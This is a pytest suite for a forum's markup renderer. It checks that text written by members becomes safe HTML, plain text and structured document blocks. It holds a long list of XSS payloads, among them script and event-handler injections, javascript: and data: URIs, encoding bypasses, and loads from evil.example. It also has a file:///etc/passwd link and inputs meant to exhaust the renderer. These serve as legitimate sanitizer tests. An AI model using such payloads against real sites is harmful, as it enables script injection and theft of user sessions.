"""What members write becomes safe HTML, plain words, and blocks for documents (security.md, number 39)."""

from __future__ import annotations

from typing import Any

import pytest
from bs4 import BeautifulSoup

from portal import markup

TAGS = {
    *("p", "br", "strong", "em", "s", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "h3", "h4", "h5"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start")}
SCHEMES = ("https://", "http://", "mailto:", "tel:")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.example><input name=csrf_token></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/%0d%0aX:y)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))",
    "[x](https://evil.example/ 'title\" onmouseover=\"alert(1)')",
    "[x]('onmouseover=alert(1))",
    "[[x](https://a.example)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](x)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/?<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "1000000000. x",
    "~~<script>alert(1)</script>~~",
    "\u2028<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a id=portal-error name=cookie>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_s39_nothing_that_runs_comes_out(payload: str) -> None:
    for text in (payload, f"Före {payload} efter", f"**{payload}**", f"> - {payload}"):
        soup = BeautifulSoup(str(markup.render(text)), "html.parser")
        for element in soup.find_all():
            assert element.name in TAGS, element
            for name, value in element.attrs.items():
                assert (element.name, name) in ATTRIBUTES, element
                if name == "href":
                    assert str(value).startswith((*SCHEMES, "/")), element
                    assert not str(value).startswith(("//", "/\\")), element
                    assert not any(ord(char) < 33 for char in str(value)), element
                elif name == "rel":
                    assert value == ["noopener", "noreferrer", "nofollow"]


def test_what_members_use_comes_out() -> None:
    text = "# Rubrik\n\nEn **fet** och *lutad* text.\nNy rad.\n\n- ett\n- två\n\n1. a\n2. b\n\n> citat\n\n[länk](https://a.example)"
    html = str(markup.render(text))
    for part in (
        "<h3>Rubrik</h3>", "<strong>fet</strong>", "<em>lutad</em>", "<br>", "<ul>", "<li>ett</li>", "<ol>", "<blockquote>",
        '<a href="https://a.example" rel="noopener noreferrer nofollow">länk</a>',
    ):  # fmt: skip
        assert part in html


def test_links_to_own_pages_and_to_full_addresses_only() -> None:
    assert markup.render("[x](/threads/5)") == '<p><a href="/threads/5" rel="noopener noreferrer nofollow">x</a></p>\n'
    assert markup.render("[x](tel:020390000)").startswith('<p><a href="tel:020390000"')
    for target in ("//evil.example", "threads/5", "#x", "?x", "ftp://a.example", "https:evil"):
        assert "href" not in markup.render(f"[x]({target})"), target


def test_headings_stand_below_the_page_s_own() -> None:
    assert "<h1" not in markup.render("# a\n\n## b\n\n###### c\n\nd\n===")
    assert "<h5>c</h5>" in markup.render("###### c")


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "> " * 20_000 + "x", "*" * 50_000, "`" * 50_000 + "x", "![" * 20_000, "- " * 20_000, "_a" * 20_000,
     "|" * 50_000 + "\n|" + "-|" * 20_000, "&" * 50_000, "<" * 50_000, "[a](" * 10_000, "\\" * 50_000, "**a " * 12_000,
     "~~" * 25_000, "1. " * 10_000, "# " * 20_000],
    ids=range(16),
)  # fmt: skip
def test_no_text_takes_the_renderer_down(text: str) -> None:
    """What is deep or long ends in bounded time; the suite's own limit is the judge."""
    markup.render(text)
    markup.plain(text)
    markup.blocks(text)


def test_plain_words() -> None:
    text = "# Rubrik\n\nEn **fet** [länk](https://a.example/hemlig) och `kod`\n\n- ett\n\n```\nblock\n```\n\n| a | b |\n|--|--|\n| c | d |"
    plain = markup.plain(text)
    assert plain.split() == ["Rubrik", "En", "fet", "länk", "och", "kod", "ett", "block", "a", "b", "c", "d"]


def test_blocks_for_documents() -> None:
    found = markup.blocks(
        "# Beslut\n\nEn **fet** *lutad* text\n\n- ett\n- två\n  - tre\n\n1. fyra\n\n> citat\n\n```\n#let x\n```"
    )
    assert shape(found) == ["Beslut", "En fet lutad text", ["-", ["ett"], ["två", ["-", ["tre"]]]], [1, ["fyra"]],
                            ["quote", "citat"], "#let x\n"]  # fmt: skip
    assert found[0]["runs"] == [{"text": "Beslut", "bold": True, "italic": False}]
    assert {"text": "fet", "bold": True, "italic": False} in found[1]["runs"]
    assert found[5]["runs"] == [{"text": "#let x\n"}]


def test_a_quote_or_list_in_a_list_keeps_its_words() -> None:
    words = str(markup.blocks("- ett\n\n  > citat i punkten\n\n  1. inre\n\n  ```\n  kod\n  ```\n- två"))
    for word in ("ett", "citat i punkten", "inre", "kod", "två"):
        assert word in words


def shape(found: list[dict[str, Any]]) -> list[Any]:
    """Blocks as they are nested: words, [kind or start, items …] and ["quote", blocks …]."""
    made: list[Any] = []
    for block in found:
        if block["kind"] == "paragraph":
            made.append("".join(run["text"] for run in block["runs"]))
        elif block["kind"] == "quote":
            made.append(["quote", *shape(block["blocks"])])
        else:
            made.append([block.get("start", "-"), *(shape(item) for item in block["items"])])
    return made


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1. a\n   - b\n2. c", [[1, ["a", ["-", ["b"]]], ["c"]]]),
        ("> - a\n> - b\n\nefter", [["quote", ["-", ["a"], ["b"]]], "efter"]),
        ("- a\n\n  > citat\n\n  mer\n- b\n\nefter", [["-", ["a", ["quote", "citat"], "mer"], ["b"]], "efter"]),
        ("7. sju\n8. åtta", [[7, ["sju"], ["åtta"]]]),
        ("0. noll", [[0, ["noll"]]]),
        ("- a\n  1. b\n     - c\n- d", [["-", ["a", [1, ["b", ["-", ["c"]]]]], ["d"]]]),
        ("-\n- b", [["-", [], ["b"]]]),
        ("> > djupt\n\nefter", [["quote", ["quote", "djupt"]], "efter"]),
        ("Se [manualen](https://a.example/m) nu", ["Se manualen (https://a.example/m) nu"]),
        ("[**fet** länk](/threads/5)", ["fet länk (/threads/5)"]),
        ("[https://a.example](https://a.example)", ["https://a.example"]),
        ("<https://a.example> <a@b.example>", ["https://a.example a@b.example"]),
        ("[skriv](mailto:a@b.example)", ["skriv (a@b.example)"]),
        ("[x](javascript:alert(1)) [y](//evil.example)", ["[x](javascript:alert(1)) y"]),
    ],
)
def test_lists_quotes_and_links_keep_their_places(text: str, expected: list[Any]) -> None:
    assert shape(markup.blocks(text)) == expected
